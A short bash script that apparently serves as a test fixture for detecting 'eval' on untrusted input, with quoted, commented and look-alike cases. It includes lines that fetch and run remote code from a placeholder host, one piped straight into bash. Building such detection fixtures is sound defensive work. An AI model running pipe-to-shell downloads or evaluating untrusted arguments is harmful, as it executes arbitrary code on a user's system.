#!/bin/bash
# eval "$1"
echo 'eval "$1"'
echo "never use eval here"
grep -rn 'eval "$1"' src
cat <<'EOF' > notes.txt
eval "$1"
source <(curl -s https://x.example/a)
EOF
eval() { :; }
eval "$1"
unset -f nothing
bash -c 'ls -l'
python3 -c 'print(1)'
curl -fsSL https://x.example/install.sh | bash
printf '%s\n' "eval"
git commit -m 'remove eval "$x"'
medieval "$1"
./eval.sh "$1"
evaluate --model "$1"
ls -l -- "$1"
alias evaluation='ls'
x='eval "$1"'
echo "$x"
